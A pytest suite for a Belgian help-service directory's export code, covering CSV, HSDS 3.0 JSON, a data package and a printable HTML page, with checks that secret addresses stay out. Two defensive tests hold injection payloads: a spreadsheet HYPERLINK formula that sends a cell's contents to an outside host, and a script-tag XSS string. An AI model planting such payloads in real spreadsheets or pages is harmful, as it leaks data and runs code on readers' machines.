"""What leaves the house: only what professionals may see, marked, harmless to open, in the form that is promised."""

import csv
import datetime as dt
import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any, cast
from uuid import UUID

import pytest
from click.testing import CliRunner, Result

from bot import cli
from bot.commands import common
from bot.commands.publish import EXPORT_FORMATS
from bot.conversation.flow import Assistant
from bot.desk.export import Extract, contact_page, contact_table, extract, facts_json
from bot.desk.hsds import hsds, hsds_package
from bot.knowledge.fields import Audience, Confidence, Kind, ServiceStatus, Text
from bot.knowledge.hours import BELGIUM, Closure
from bot.knowledge.service import Address, Alert, Area, Checked, Organization, Phone, Reader, Service, Visibility
from tests.conftest import LANGUAGES

DAY = dt.date(2026, 12, 1)

# The fields of Human Services Data Specification 3.0 (openreferral/specification, schema/*.json, read in November 2026;
# fields that came with 3.1 left out), of the records that we write: name: type, `!` where the schema requires it. Types
# are those of the schema: uuid, uri and email are its formats, date and time its datapackage types, a|b its enums.
_LINKS = {"attributes": "[attribute]", "metadata": "[metadata]"}
HSDS_3 = {
    "service": {
        "id": "uuid!", "organization_id": "string", "program_id": "string", "name": "string!",
        "alternate_name": "string", "description": "string", "url": "uri", "email": "email",
        "status": "active|inactive|defunct|temporarily closed!", "interpretation_services": "string",
        "application_process": "string", "fees_description": "string", "accreditations": "string",
        "eligibility_description": "string", "minimum_age": "number", "maximum_age": "number", "assured_date": "date",
        "assurer_email": "email", "alert": "string", "last_modified": "string", "phones": "[phone]",
        "schedules": "[schedule]", "service_areas": "[service_area]", "service_at_locations": "[service_at_location]",
        "languages": "[language]", "organization": "{organization}", **_LINKS,
    },
    "organization": {
        "id": "uuid!", "name": "string!", "alternate_name": "string", "description": "string!", "email": "email",
        "website": "uri", "phones": "[phone]", "locations": "[location]", **_LINKS,
    },
    "phone": {
        "id": "uuid!", "number": "string!", "extension": "number", "type": "text|voice|fax|cell|video|pager|textphone",
        "description": "string",
        "languages": "[language]", **_LINKS,
    },
    "schedule": {
        "id": "uuid!", "valid_from": "date", "valid_to": "date", "timezone": "number", "freq": "WEEKLY|MONTHLY",
        "interval": "number", "byday": "days", "description": "string", "opens_at": "time", "closes_at": "time",
        "schedule_link": "uri", "attending_type": "string", "notes": "string", **_LINKS,
    },
    "service_area": {
        "id": "uuid!", "name": "string", "description": "string", "extent": "string",
        "extent_type": "geojson|topojson|kml|text", "uri": "string", **_LINKS,
    },
    "service_at_location": {"id": "uuid!", "description": "string", "location": "{location}", **_LINKS},
    "location": {
        "id": "uuid!", "location_type": "physical|postal|virtual!", "url": "uri", "name": "string",
        "alternate_name": "string", "description": "string", "transportation": "string", "latitude": "number",
        "longitude": "number", "addresses": "[address]", "accessibility": "[accessibility]", **_LINKS,
    },
    "address": {
        "id": "uuid!", "attention": "string", "address_1": "string!", "address_2": "string", "city": "string!",
        "region": "string", "state_province": "string!", "postal_code": "string!", "country": "two!",
        "address_type": "physical|postal|virtual!", **_LINKS,
    },
    "accessibility": {"id": "uuid!", "description": "string", "details": "string", "url": "uri", **_LINKS},
    "language": {"id": "uuid!", "name": "string", "code": "two", "note": "string", **_LINKS},
    "attribute": {
        "id": "uuid!", "link_id": "uuid", "taxonomy_term_id": "uuid", "link_type": "string", "link_entity": "string",
        "value": "string", "taxonomy_term": "{taxonomy_term}", "metadata": "[metadata]",
    },
    "taxonomy_term": {
        "id": "uuid!", "code": "string", "name": "string!", "description": "string!", "parent_id": "string",
        "taxonomy": "string", "language": "string", "taxonomy_id": "string", "term_uri": "uri",
        "metadata": "[metadata]",
    },
    "metadata": {
        "id": "uuid!", "resource_id": "uuid", "resource_type": "string", "last_action_date": "date!",
        "last_action_type": "string!", "field_name": "string!", "previous_value": "string!",
        "replacement_value": "string!", "updated_by": "string!",
    },
}  # fmt: skip
FORMS = {
    "string": r"(?s).*",
    "uuid": r"[\da-f]{8}(-[\da-f]{4}){3}-[\da-f]{12}",
    "uri": r"https?://\S+",
    "email": r"[^@\s]+@[^@\s]+\.[a-z]+",
    "date": r"\d{4}-\d{2}-\d{2}",
    "datetime": r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z",
    "days": r"(-?\d?(MO|TU|WE|TH|FR|SA|SU),?)+",  # as iCalendar (RFC 5545) writes them
    "two": r"[a-z]{2}|[A-Z]{2}",  # ISO 639-1 and ISO 3166-1
    "time": r"([01]\d|2[0-3]):[0-5]\d:[0-5]\d",
}


def misfits(kind: str, record: dict[str, Any]) -> Iterator[str]:
    """Where the record is not as the specification has it."""
    fields = HSDS_3[kind]
    yield from (f"{kind}.{name} is required" for name, form in fields.items() if form[-1] == "!" and name not in record)
    for name, value in record.items():
        if name not in fields:
            yield f"{kind}.{name} is no field"
        else:
            yield from _misfits(f"{kind}.{name}", fields[name].removesuffix("!"), value)


def _misfits(where: str, form: str, value: Any) -> Iterator[str]:  # noqa: ANN401  # whatever JSON holds
    if form[0] == "[" and isinstance(value, list):
        for item in value:
            yield from misfits(form[1:-1], item)
    elif form[0] == "{" and isinstance(value, dict):
        yield from misfits(form[1:-1], value)
    elif form == "number" and isinstance(value, int | float):
        return
    elif not isinstance(value, str) or not re.fullmatch(FORMS.get(form, form), value):
        yield f"{where} is not {form}: {value!r}"


def records(record: Any, kind: str = "service") -> Iterator[tuple[str, dict[str, Any]]]:  # noqa: ANN401
    """The record and all that it holds, each with its kind."""
    yield kind, record
    for name, value in record.items():
        form = HSDS_3[kind][name]
        for item in value if isinstance(value, list) else [value] if isinstance(value, dict) else []:
            yield from records(item, form[1:-1])


@pytest.fixture(params=LANGUAGES)
def whole(assistant: Assistant, request: pytest.FixtureRequest) -> Extract:
    """All facts of the repository, in each language."""
    return extract(assistant, request.param, DAY)


@pytest.fixture
def one(assistant: Assistant) -> Callable[..., Extract]:
    """The extract with a single service, changed as the test wants it."""

    def made(service_id: str = "espace-vif", **changes: Any) -> Extract:  # noqa: ANN401  # whatever a service holds
        whole = extract(assistant, "fr", DAY)
        shown = next(shown for shown in whole.shown if shown.service.id == service_id)
        changed = replace(shown.service, **changes)
        return replace(whole, shown=(replace(shown, service=changed),))

    return made


def everything(extract: Extract) -> str:
    """All formats in one text."""
    return "\n".join(form(extract).decode("utf-8", "replace") for form in EXPORT_FORMATS.values())


class TestWhatLeaves:
    """The same facts in each format."""

    def test_each_service_that_a_professional_may_see(self, whole: Extract) -> None:
        """None is lost, none is there twice."""
        ids = [shown.service.id for shown in whole.shown]

        assert ids == list(whole.facts.services)
        assert [service["id"] for service in facts_json(whole)["services"]] == ids
        assert len(hsds(whole)) == len(ids)
        assert [row[-1] for row in rows(whole)[1:]] == ids

    def test_a_hidden_service_stays(self, assistant: Assistant, monkeypatch: pytest.MonkeyPatch) -> None:
        """Whatever the display rule says of professionals, an export follows it."""
        monkeypatch.setattr("bot.conversation.referral.visibility", lambda *_: Visibility.HIDDEN)

        assert extract(assistant, "fr", DAY).shown == ()

    def test_a_secret_address_never_leaves(self, assistant: Assistant, monkeypatch: pytest.MonkeyPatch) -> None:
        """Not even one that slipped through the check."""
        leak = Address(visible="secret", text="Rue du Secret 1, 5000 Namur")
        leaking = replace(assistant.facts.services["espace-vif"], address=leak)
        monkeypatch.setitem(cast("dict[str, Service]", assistant.facts.services), leaking.id, leaking)
        text = everything(extract(assistant, "fr", DAY))

        assert "Rue du Secret" not in text
        assert "adresse secrète" in text

    def test_our_own_secret_addresses_have_no_text(self, whole: Extract) -> None:
        """The check sees to it; this is the last look."""
        secret = [shown.service for shown in whole.shown if (at := shown.service.address) and at.visible == "secret"]

        assert secret
        assert all(service.address is not None and service.address.text is None for service in secret)

    def test_what_is_not_checked_is_marked_everywhere(self, whole: Extract) -> None:
        """A number that nobody stands behind is never passed on as if somebody did."""
        doubtful = [shown for shown in whole.shown if shown.visibility is Visibility.NOT_CHECKED]
        mark = whole.localizer.say("contact-not-checked")

        assert doubtful
        for shown in doubtful:
            alone = replace(whole, shown=(shown,))
            assert mark in contact_page(alone).replace("&#x27;", "'")
            assert whole.localizer.say("export-visibility", visibility="not_checked") in rows(alone)[1]
            assert "not_checked" in json.dumps(hsds(alone))
            assert facts_json(alone)["services"][0]["visibility"] == "not_checked"


def rows(extract: Extract) -> list[list[str]]:
    return list(csv.reader(io.StringIO(contact_table(extract)), delimiter=";"))


class TestTable:
    """A table that a spreadsheet opens."""

    def test_it_opens_in_excel_with_a_double_click(self, whole: Extract) -> None:
        """UTF-8 that says so, semicolons, the line ends of the standard."""
        contents = EXPORT_FORMATS["csv"](whole)

        assert contents.startswith(b"\xef\xbb\xbf")
        assert contents.count(b"\r\n") == len(whole.shown) + 1
        assert {len(row) for row in rows(whole)} == {30}

    @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
    def test_a_cell_is_never_a_formula(self, one: Callable[..., Extract], start: str) -> None:
        """A formula in a spreadsheet can send what stands beside it to somebody else."""
        cells = rows(one(email=f'{start}HYPERLINK("https://example.org/?"&A1)'))[1]

        assert f"'{start}HYPERLINK" in "".join(cells)
        assert not any(cell.startswith(start) for cell in cells)

    def test_hours_of_the_chat_and_of_the_desk_have_a_column_each(self, one: Callable[..., Extract]) -> None:
        """In words, as those of the telephone."""
        cells = dict(
            zip(*rows(one(chat="https://awel.be/", chat_hours="24/7", desk_hours="Mo 14:00-16:00")), strict=True)
        )

        assert cells["Heures du chat"] == "jour et nuit, tous les jours"
        assert cells["Heures sur place"] == "lundi, de 14:00 à 16:00"

    def test_quotes_and_semicolons_stay_in_their_cell(self, one: Callable[..., Extract]) -> None:
        """What people write is not cut."""
        assert 'a; "b"' in rows(one(email='a; "b"'))[1]

    def test_a_secret_address_is_said_to_be_one(self, one: Callable[..., Extract]) -> None:
        """Else somebody would look for it."""
        assert "adresse secrète" in rows(one())[1]


class TestHsds:
    """The Human Services Data Specification 3.0."""

    def test_each_record_is_as_the_specification_has_it(self, whole: Extract) -> None:
        """Known fields, their types and formats, all that is required."""
        assert [problem for service in hsds(whole) for problem in misfits("service", service)] == []

    def test_an_identifier_is_of_one_record(self, whole: Extract) -> None:
        """And the same record has the same one wherever it stands."""
        seen: dict[str, tuple[str, dict[str, Any]]] = {}
        for service in hsds(whole):
            for kind, record in records(service):
                assert seen.setdefault(record["id"], (kind, record)) == (kind, record)

    def test_identifiers_stay(self, one: Callable[..., Extract]) -> None:
        """Others keep them: the language, the day and the order do not change them."""
        assert hsds(one())[0]["id"] == "c86ad3ac-2554-59fc-a131-cac9a88f370b"
        assert UUID(hsds(one())[0]["id"]).version == 5

    def test_sources_are_attributes(self, whole: Extract) -> None:
        """Each with its address and the day it was read."""
        for shown, service in zip(whole.shown, hsds(whole), strict=True):
            sources = [one for one in service["attributes"] if one["link_type"] == "source"]

            assert [one["taxonomy_term"]["name"] for one in sources] == [source.title for source in shown.sources]
            assert [one["value"] for one in sources] == [source.read_on.isoformat() for source in shown.sources]

    def test_each_number_each_hour_and_each_area_has_its_sources(self, whole: Extract) -> None:
        """Its own where the file names them, else those of the service; none is without."""
        for service in hsds(whole):
            parts = [part for name in ("phones", "schedules", "service_areas") for part in service.get(name, [])]
            said = [[one["value"] for one in part["attributes"] if one["link_type"] == "source"] for part in parts]
            links = {one["link_id"] == part["id"] for part in parts for one in part["attributes"]}

            assert all(said)
            assert links <= {True}
            assert {part["attributes"][0]["link_entity"] for part in parts} <= {"phone", "schedule", "service_area"}

    def test_a_number_with_a_source_of_its_own(self, one: Callable[..., Extract]) -> None:
        """That one, and not those of the service; in our own JSON too, written out."""
        phone = Phone(number="1712", sources=("rtl-2024-09",))
        extract = one(phones=(phone,))
        (written,) = hsds(extract)[0]["phones"]
        (flatly,) = facts_json(extract)["services"][0]["phones"]

        assert [a["taxonomy_term"]["name"] for a in written["attributes"]] == ["RTL, Espace VIF ouvre ses portes"]
        assert [source["title"] for source in flatly["sources"]] == ["RTL, Espace VIF ouvre ses portes"]

    @pytest.mark.parametrize(("said", "exported"), [({}, 180), ({"phones": ()}, 365), ({"review_every": 30}, 30)])
    def test_how_long_a_reading_is_good_for(
        self, one: Callable[..., Extract], said: dict[str, object], exported: int
    ) -> None:
        """Whether or not the file says it."""
        phones = {"phones": (Phone(number="1712"),), "hours": "unknown"}
        assert facts_json(one(**phones | said))["services"][0]["review_every"] == exported

    def test_hours(self, one: Callable[..., Extract]) -> None:
        """A schedule for each span; what repeats by the week as iCalendar has it."""
        schedules = hsds(one(hours="Mo-Fr 09:00-12:00,13:30-24:00; Sa,Su 10:00-12:00"))[0]["schedules"]

        assert [(one["byday"], one["opens_at"], one["closes_at"]) for one in schedules] == [
            ("MO,TU,WE,TH,FR", "09:00:00", "12:00:00"),
            ("MO,TU,WE,TH,FR", "13:30:00", "23:59:00"),
            ("SA,SU", "10:00:00", "12:00:00"),
        ]

    def test_hours_of_the_chat_and_of_the_desk_are_schedules_of_their_own(self, one: Callable[..., Extract]) -> None:
        """Each says what it is for; the identifiers of the others stay as they were."""
        chat = {"chat": "https://awel.be/", "chat_hours": "Mo 14:00-16:00"}
        (plain,) = hsds(one(hours="Mo 14:00-16:00"))[0]["schedules"]
        schedules = hsds(one(hours="Mo 14:00-16:00", desk_hours="Tu 9:00-12:00", **chat))[0]["schedules"]

        assert schedules[0] == plain
        assert [(one.get("attending_type"), one["byday"]) for one in schedules] == [
            (None, "MO"),
            ("chat", "MO"),
            ("desk", "TU"),
        ]
        assert len({one["id"] for one in schedules}) == 3

    def test_a_service_that_is_closed_for_some_days(self, one: Callable[..., Extract]) -> None:
        """It is closed for a time, and not for good; what is told of it is its alert, before any other."""
        alert = Alert(text=Text(fr="Autre numéro", nl="Ander nummer"), until=DAY)
        closed = Closure(since=DAY, until=DAY, say=Text(fr="En congé.", nl="Met vakantie."))
        whole = one(alert=alert, closed=closed)
        (shown,) = whole.shown
        opening = shown.service.opening("phone", dt.datetime.combine(DAY, dt.time(12), BELGIUM))
        record = hsds(replace(whole, shown=(replace(shown, opening=opening),)))[0]

        assert hsds(one(alert=alert))[0]["status"] == "active"
        assert (record["status"], record["alert"]) == ("temporarily closed", "En congé. Autre numéro.")

    def test_hours_of_some_weeks(self, one: Callable[..., Extract]) -> None:
        """By the month, and between two days; what HSDS cannot say is in the description alone."""

        def schedules(hours: str) -> list[tuple[str, ...]]:
            keys = ("valid_from", "valid_to", "freq", "byday", "opens_at", "closes_at")
            records = hsds(one(hours=hours))[0]["schedules"]
            return [tuple(record[key] for key in keys if key in record) for record in records]

        assert schedules("Tu[1,3],Fr[-1] 14:00-16:00") == [("MONTHLY", "1TU,3TU,-1FR", "14:00:00", "16:00:00")]
        assert schedules("2027 Jul-Aug Mo 09:00-12:00") == [
            ("2027-07-01", "2027-08-31", "WEEKLY", "MO", "09:00:00", "12:00:00")
        ]
        assert schedules("We 17:00+") == [("WEEKLY", "WE", "17:00:00")]
        assert schedules("Jul Mo 09:00-12:00") == schedules("Mo by appointment") == [()]
        assert hsds(one(hours="Jul Mo 09:00-12:00"))[0]["schedules"][0]["description"] == (
            "en juillet, lundi, de 9:00 à 12:00"
        )

    def test_an_arrondissement(self, one: Callable[..., Extract]) -> None:
        """By its code, and by the municipalities that it is named after."""
        areas = hsds(one(area=Area(arrondissements=("62000", "57000"))))[0]["service_areas"]

        assert [(area["extent"], area["name"]) for area in areas] == [
            ("62000", "arrondissement : Liège"),
            ("57000", "arrondissement : Tournai-Mouscron"),
        ]

    def test_always_and_unknown_hours(self, one: Callable[..., Extract]) -> None:
        """Known to be open, and not known at all, are two things."""
        (always,) = hsds(one(hours="24/7"))[0]["schedules"]

        assert (always["byday"], always["opens_at"], always["closes_at"]) == (
            "MO,TU,WE,TH,FR,SA,SU",
            "00:00:00",
            "23:59:00",
        )
        assert "schedules" not in hsds(one(hours="unknown", hours_note=None))[0]

    def test_an_address(self, one: Callable[..., Extract]) -> None:
        """In parts where it is written as usual; else as its line."""
        usual = Address(visible="public", text="Rue de Fer 5, 5000 Namur")
        odd = Address(visible="public", text="CHU, site Notre-Dame")
        (at,) = hsds(one(address=usual))[0]["service_at_locations"]
        (elsewhere,) = hsds(one(address=odd))[0]["service_at_locations"]

        assert at["location"]["addresses"][0] | {"id": ""} == {
            "id": "",
            "address_1": "Rue de Fer 5",
            "city": "Namur",
            "state_province": "province de Namur",
            "postal_code": "5000",
            "country": "BE",
            "address_type": "physical",
        }
        assert elsewhere["location"]["description"] == "CHU, site Notre-Dame"
        assert "addresses" not in elsewhere["location"]

    def test_a_secret_address_is_no_location(self, one: Callable[..., Extract]) -> None:
        """Only the attribute says that there is one."""
        (service,) = hsds(one())

        assert "service_at_locations" not in service
        assert ("address", "secret") in [(one["link_type"], one["value"]) for one in service["attributes"]]

    @pytest.mark.parametrize(("status", "said"), [("paused", "temporarily closed"), ("ended", "defunct")])
    def test_a_service_that_stopped(self, one: Callable[..., Extract], status: str, said: str) -> None:
        """By the word that the specification has for it."""
        assert hsds(one(status=ServiceStatus(status)))[0]["status"] == said

    def test_nothing_is_assured_that_nobody_checked(self, one: Callable[..., Extract]) -> None:
        """The metadata repeat the day of a check, with the role of who made it; without a check there are none."""
        (bare,) = hsds(one(checked=None))
        (checked,) = hsds(one(checked=Checked(on=DAY, by="team-liege")))
        (entry,) = checked["metadata"]

        assert bare.keys().isdisjoint({"metadata", "assured_date"})
        assert checked["assured_date"] == entry["replacement_value"] == entry["last_action_date"] == DAY.isoformat()
        assert (entry["field_name"], entry["updated_by"]) == ("assured_date", "team-liege")

    def test_an_organization_outlives_its_name(self, one: Callable[..., Extract]) -> None:
        """So does one that a service stands for by itself."""
        names = (Text(fr="CVFE", nl="CVFE"), Text(fr="Autre", nl="Ander"))
        own = [hsds(one(name=name, organization=None))[0]["organization"] for name in names]
        given = [hsds(one(organization=Organization(id="cvfe", name=name)))[0]["organization"] for name in names]

        for before, after in (own, given):
            assert before["id"] == after["id"]
            assert before["name"] != after["name"]

    def test_police_caw_and_cpas_are_grouped(self, whole: Extract) -> None:
        """By a word of their names; several services of a zone have one organization."""
        groups: dict[str, set[str]] = {}
        for service in hsds(whole):
            for attribute in service["organization"].get("attributes", []):
                groups.setdefault(attribute["value"], set()).add(service["organization"]["id"])
        midi = [
            shown.service for shown in whole.shown if "Midi" in shown.service.name.fr and shown.service.organization
        ]

        assert groups.keys() == {"police", "cpas", "caw"}
        assert len(groups["cpas"]) > 80
        assert len({service.organization.id for service in midi if service.organization}) == 1 < len(midi)

    def test_no_person_is_named(self, whole: Extract) -> None:
        """`updated_by` is a role."""
        roles = {shown.service.checked.by for shown in whole.shown if shown.service.checked}

        assert {entry["updated_by"] for service in hsds(whole) for entry in service.get("metadata", [])} <= roles

    def test_a_victim_reads_no_team(self, assistant: Assistant, monkeypatch: pytest.MonkeyPatch) -> None:
        """The extract for everybody holds what a victim may see, and not who looked."""
        service = replace(assistant.facts.services["be-112"], checked=Checked(on=DAY, by="team-liege"))
        monkeypatch.setitem(cast("dict[str, Service]", assistant.facts.services), "be-112", service)
        public = extract(assistant, "fr", DAY, Reader.VICTIM)

        assert "team-liege" not in json.dumps(hsds(public))
        assert len(public.shown) < len(extract(assistant, "fr", DAY).shown)
        assert all(shown.service.show_to_victims for shown in public.shown)


def package_faults(contents: bytes) -> Iterator[str]:
    """Where a package is not as it says of itself: columns, types, what must be there, what ids belong to."""
    with zipfile.ZipFile(io.BytesIO(contents)) as archive:
        files = {name: archive.read(name).decode() for name in archive.namelist()}
    resources = json.loads(files["datapackage.json"])["resources"]
    rows = {one["name"]: list(csv.DictReader(io.StringIO(files[one["path"]], newline=""))) for one in resources}
    for one in resources:
        fields = one["schema"]["fields"]
        if files[one["path"]].splitlines()[0].split(",") != [field["name"] for field in fields]:
            yield f"{one['name']}: other columns"
        for field in fields:
            values = [row[field["name"]] for row in rows[one["name"]]]
            form = FORMS[field.get("format", field["type"])] if field["type"] != "number" else r"-?\d+(\.\d+)?"
            if field["constraints"]["required"] and "" in values:
                yield f"{one['name']}.{field['name']} is required"
            if (field["constraints"]["unique"] or (field["name"] == "code" and "term" in one["name"])) and len(
                set(values)
            ) < len(values):
                yield f"{one['name']}.{field['name']} is not unique"
            yield from (
                f"{one['name']}.{field['name']}: {value}" for value in values if value and not re.fullmatch(form, value)
            )
        for key in one["schema"]["foreignKeys"]:
            known = {row["id"] for row in rows[key["reference"]["resource"]]} | {""}
            yield from (f"{one['name']}: {row['id']}" for row in rows[one["name"]] if row[key["fields"]] not in known)


class TestPackage:
    """The same as tables, which importers of 211 read."""

    def test_it_is_as_it_says(self, whole: Extract) -> None:
        """No fault in any of the 21 tables; a row for each service, each with its organization."""
        contents = hsds_package(whole)
        with zipfile.ZipFile(io.BytesIO(contents)) as archive:
            services = list(csv.DictReader(io.StringIO(archive.read("services.csv").decode(), newline="")))

        assert list(package_faults(contents)) == []
        assert len(zipfile.ZipFile(io.BytesIO(contents)).namelist()) == 22
        assert [row["id"] for row in services] == [service["id"] for service in hsds(whole)]

    def test_the_same_facts_make_the_same_file(self, whole: Extract) -> None:
        """Whoever compares two of them sees what changed."""
        assert hsds_package(whole) == hsds_package(whole)

    def test_what_stands_inside_names_what_it_belongs_to(self, one: Callable[..., Extract]) -> None:
        """A telephone its service, an address its location, an attribute its term."""
        usual = Address(visible="public", text="Rue de Fer 5, 5000 Namur")
        with zipfile.ZipFile(io.BytesIO(hsds_package(one(address=usual)))) as archive:
            tables = {name: list(csv.DictReader(io.TextIOWrapper(archive.open(f"{name}.csv")))) for name in (
                "services", "phones", "locations", "addresses", "service_at_location", "attributes", "taxonomy_terms",
            )}  # fmt: skip

        assert {row["service_id"] for row in tables["phones"]} == {tables["services"][0]["id"]}
        assert tables["addresses"][0]["location_id"] == tables["locations"][0]["id"]
        assert tables["service_at_location"][0]["location_id"] == tables["locations"][0]["id"]
        terms = {row["id"] for row in tables["taxonomy_terms"]}
        assert {row["taxonomy_term_id"] for row in tables["attributes"]} <= terms


class Elements(HTMLParser):
    """The elements of a page with their attributes, and its text."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


class TestPage:
    """A page to print."""

    def test_one_project_after_the_other(self, whole: Extract) -> None:
        """In the ministry's order, then the rest of the country."""
        headings = re.findall(r"<h2>(\d*)", contact_page(whole))

        assert headings == [*map(str, range(1, 16)), ""]

    def test_nothing_runs_and_nothing_is_fetched(self, whole: Extract) -> None:
        """No script, no image, no style sheet from elsewhere, no link to press by mistake."""
        elements = Elements(contact_page(whole)).found
        attributes = {name for _, given in elements for name in given}

        assert {tag for tag, _ in elements} == {
            "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "section", "article",
        }  # fmt: skip
        assert attributes == {"lang", "charset", "name", "content", "http-equiv", "class"}
        assert "url(" not in contact_page(whole)
        assert "@import" not in contact_page(whole)

    def test_its_language_is_said(self, whole: Extract) -> None:
        """For a screen reader and for hyphens."""
        assert ("html", {"lang": whole.localizer.language}) in Elements(contact_page(whole)).found

    def test_what_is_left_when_numbers_grow_old(self, whole: Extract) -> None:
        """The site of a municipality, and the page of a police zone."""
        text = Elements(contact_page(whole)).text

        assert "(https://www.seraing.be/)" in text
        assert "/5278)" in text

    def test_a_fact_is_never_markup(self, one: Callable[..., Extract]) -> None:
        """Everything is escaped."""
        extract = one("be-112", email="<script>alert('x')</script> & co")

        assert "<script>alert('x')</script> & co" in Elements(contact_page(extract)).text

    def test_each_service_is_on_it(self, whole: Extract) -> None:
        """With the emergency numbers first of all."""
        text = Elements(contact_page(whole)).text

        assert "101" in text.partition("1. ")[0]
        assert all(shown.service.name[whole.localizer.language] in text for shown in whole.shown)

    def test_each_contact_says_why_it_can_be_trusted(self, whole: Extract) -> None:
        """How sure, read when, checked by a person or not."""
        articles = contact_page(whole).split("<article>")[1:]

        assert all('<p class="trust">' in article and "2026" in article for article in articles)

    def test_it_does_not_say_what_is_open_now(self, one: Callable[..., Extract]) -> None:
        """On paper it is never now."""
        text = contact_page(one(hours="Mo-Su 00:01-23:58"))

        assert "0:01" in text
        assert not re.search(r"ouvert (maintenant|jusqu)|fermé", text, re.IGNORECASE)


class TestWords:
    """Each code has a word in each language."""

    @pytest.mark.parametrize(
        ("message", "argument", "codes"),
        [
            ("export-kind", "kind", Kind),
            ("export-audience", "audience", Audience),
            ("export-confidence", "confidence", Confidence),
            ("export-status", "status", ServiceStatus),
            ("export-visibility", "visibility", [one for one in Visibility if one is not Visibility.HIDDEN]),
            ("export-area", "area", ["BE", "flanders", "brussels", "wallonia", "german"]),
        ],
    )
    def test_no_code_is_shown_as_it_is(self, whole: Extract, message: str, argument: str, codes: list[str]) -> None:
        """The last resort of the message is the code itself."""
        said = {str(code): whole.localizer.say(message, **{argument: str(code)}) for code in codes}
        same = {code for code, word in said.items() if code == word}

        assert same <= {"police", "high", "medium", "low", "everyone"}  # words as they are, in French or English

    def test_each_province_has_a_name(self, whole: Extract) -> None:
        """Also where the address of a service is the only thing in it."""
        provinces = {one.province for one in whole.facts.gazetteer.municipalities.values()} - {""}

        assert len(provinces) == 10
        assert all(whole.localizer.say("export-area", area=one) != one for one in provinces)


class TestCommand:
    """`relais export`."""

    @pytest.fixture(autouse=True)
    def _ready(self, monkeypatch: pytest.MonkeyPatch, assistant: Assistant, tmp_path: Path) -> None:
        monkeypatch.chdir(tmp_path)
        monkeypatch.setattr(common, "assemble", lambda *_, **__: assistant)

    def export(self, *words: str) -> Result:
        return CliRunner().invoke(cli.main, ["export", *words])

    @pytest.mark.parametrize("form", EXPORT_FORMATS)
    def test_a_file_holds_what_the_screen_shows(self, form: str, tmp_path: Path) -> None:
        """Byte for byte."""
        shown, written = self.export("--format", form), self.export("--format", form, "--output", "out")

        assert shown.exit_code == written.exit_code == 0
        assert (tmp_path / "out").read_bytes() == shown.stdout_bytes
        assert written.stderr == "out is written.\n"

    def test_the_language(self) -> None:
        """The first of the settings, or the one that is asked for."""
        assert '<html lang="fr">' in self.export("--format", "html").stdout
        assert '<html lang="nl">' in self.export("--format", "html", "--lang", "nl").stdout
        assert "the languages are fr, nl" in self.export("--format", "html", "--lang", "xx").output

    def test_a_file_that_cannot_be_written(self) -> None:
        """The reason, and the way out."""
        result = self.export("--format", "csv", "--output", "nowhere/out.csv")

        assert result.exit_code == 1
        assert "nowhere/out.csv cannot be written (No such file or directory)" in result.output

    def test_its_help_teaches(self) -> None:
        """Each format, and that it is not for the public."""
        text = self.export("--help").output

        assert all(form in text for form in EXPORT_FORMATS)
        assert "semicolons" in text
        assert "Do not put it on a public site" in " ".join(text.split())
